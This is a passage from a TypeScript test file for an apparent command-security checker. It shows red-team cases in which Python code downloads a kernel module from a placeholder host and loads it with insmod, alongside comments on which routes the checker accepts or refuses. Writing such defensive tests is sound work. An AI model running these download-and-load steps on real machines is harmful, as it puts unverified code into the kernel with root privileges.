        tune("dev-py87-chmod-own-log-fix87", ["import os", 'os.chmod("/var/log/ops", 0o750)']),
    ),
    // insmod(8) "insert a module into the Linux Kernel": a module the program downloaded runs in the kernel.
    // Was counted a MISS (round 86): (ARGV-COMMANDS-UNJUDGED) insecure accepted (got []). commandServers.ts literalCommandListeners (reached from pythonProgramListeners through pythonCode.ts pythonCommandRuns, os.system lines too) judges a Python program's literal commands only for listeners, crontab/at and cp/tee-like writes into nodeReadsAsConfig files; rootReads.ts's judgments of the same words as a shell line (loweredProtections and plantedKernelHelpers for sysctl, openedPaths for chmod/chown/setfacl, module loads, systemctl link of unread unit files) never run on them. Fix (class): hand each literal run to the shell script reader as the line it is (one command judgment), so argv and os.system commands are refused exactly when the same shell line is.
    // DECIDED (round 87): accepted by design, as the shell's `curl -o /var/cache/ops/ops.ko https://...; insmod /var/cache/ops/ops.ko` is (README DECIDED round 69: "a downloaded program run as root" over verified https is the operator's own; round 74 S20 a downloaded package, round 85 K4/N22 a downloaded repository file): the argv is read as that shell line (round 86), and the download is now read as the shell's fetch too (pythonCode.ts pythonDownloadLines), so a plain-http one is refused alike (dev-py87-insmod-http-fix87), as is a module in /tmp the program did not write (rootReads.ts plantedLoaded).
    // Still open (round 86): the shell reader refuses the same line only for a planted module (rootReads.ts loadedOperands via plantedLoaded: `curl -o /var/cache/ops/ops.ko https://...; insmod` is accepted as the operator's download too), and the argv is now read as that line (RootReads.programRuns); refusing it needs a shell-side decision that a module loaded from a file the pack cannot read (a download, a program's write) is unknown kernel code, for every route at once.
    dev(
        "tune.py: urlretrieve ops.ko; subprocess insmod it",
        tune("dev-py86-insmod-argv-rt86p", [
            "import subprocess, urllib.request",
            'urllib.request.urlretrieve("https://ops.example/ops.ko", "/var/cache/ops/ops.ko")',
            'subprocess.run(["insmod", "/var/cache/ops/ops.ko"], check=True)',
        ]),
    ),
];

describeNodeCases("Round 86 red team (python)", insecure, secure);
